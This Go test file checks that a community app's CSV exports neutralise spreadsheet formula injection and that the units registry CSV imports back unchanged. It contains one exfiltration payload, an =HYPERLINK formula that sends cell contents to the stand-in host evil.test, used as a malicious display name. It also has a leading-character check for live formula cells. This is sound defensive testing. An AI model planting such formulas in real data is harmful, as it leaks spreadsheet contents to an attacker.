package httpapi_test

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"vecinos/internal/store"
	"vecinos/internal/store/storetest"
)

// hyperlink is what an attacker names themself so that the admin's spreadsheet sends the sheet away.
const hyperlink = `=HYPERLINK("http://evil.test/?x="&A1;"Ver acta")`

// TestCSVExportsWriteFormulasAsText: a voter named '=HYPERLINK(…)' and a unit named so reach the vote
// record's CSV and the registry's CSV as text (a leading quote), and the registry's CSV still imports back
// into the same units, its '-1' floor included.
func TestCSVExportsWriteFormulasAsText(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		admin := e.regAdmin(t, "presi@example.es", map[string]any{"floors_count": 1, "doors_per_floor": 1})
		evil := e.obMember(t, "evil@example.es", e.communityCode(t, admin))
		evil.must(t, "PATCH", "/api/v1/profile", map[string]any{"fullName": hyperlink}, 200)

		poll := admin.must(t, "POST", "/api/v1/polls", map[string]any{"title": "@Pintamos el portal?", "options": []string{"+Sí", "No"},
			"closesAt": time.Now().Add(48 * time.Hour).Format(time.RFC3339)}, 201)
		base := "/api/v1/polls/" + poll["id"].(string)
		open := admin.must(t, "POST", base+"/publish", nil, 200)
		evil.must(t, "POST", base+"/vote", map[string]any{"optionId": open["options"].([]any)[0].(map[string]any)["id"]}, 200)
		admin.must(t, "POST", base+"/close", nil, 200)
		res, text := admin.raw(t, base+"/record.csv")
		if res.StatusCode != http.StatusOK {
			t.Fatalf("record.csv: %d %s", res.StatusCode, text)
		}
		for _, want := range []string{`"'=HYPERLINK(""http://evil.test/?x=""&A1;""Ver acta"")"`, "Votación;'@Pintamos el portal?", "'+Sí;1;100 %"} {
			if !strings.Contains(text, want) {
				t.Errorf("record.csv lacks %s:\n%s", want, text)
			}
		}
		for _, line := range strings.Split(text, "\n") {
			for _, cell := range strings.Split(line, ";") {
				if c := strings.TrimLeft(cell, `"`); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("record.csv has a live formula cell %q in %q", cell, line)
				}
			}
		}

		floor := "-1"
		admin.must(t, "POST", "/api/v1/community/units", map[string]any{"name": "=1+2", "floor": floor, "kind": "garaje"}, 201)
		exported := regExport(t, admin, 200)
		if !strings.Contains(exported, "\r\n;;'-1;'=1+2;garaje;\r\n") {
			t.Fatalf("units export:\n%q", exported)
		}
		other := e.regAdmin(t, "otra@example.es", nil)
		if r := other.must(t, "POST", "/api/v1/community/units/import", map[string]any{"csv": exported}, 200); r["added"] != 2.0 {
			t.Fatalf("import: %v", r)
		}
		_, units := regUnits(t, other)
		if u := regFind(t, units, "", "=1+2"); u["floor"] != floor || u["kind"] != "garaje" {
			t.Fatalf("imported unit %v", u)
		}
		if again := regExport(t, other, 200); again != exported {
			t.Fatalf("round trip:\n%q\n%q", again, exported)
		}
	})
}
